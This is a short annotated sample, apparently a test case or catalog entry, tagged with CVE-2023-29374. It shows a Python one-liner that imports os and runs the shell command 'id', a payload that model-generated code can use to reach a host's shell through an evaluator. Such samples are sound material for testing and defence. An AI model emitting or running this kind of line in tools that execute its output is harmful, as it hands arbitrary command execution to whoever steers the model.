# class: lineage
# mechanism: CVE-2023-29374
# how: CVE-2023-29374: code from a model
# reaches: built-in __import__
__import__("os").popen("id").read()
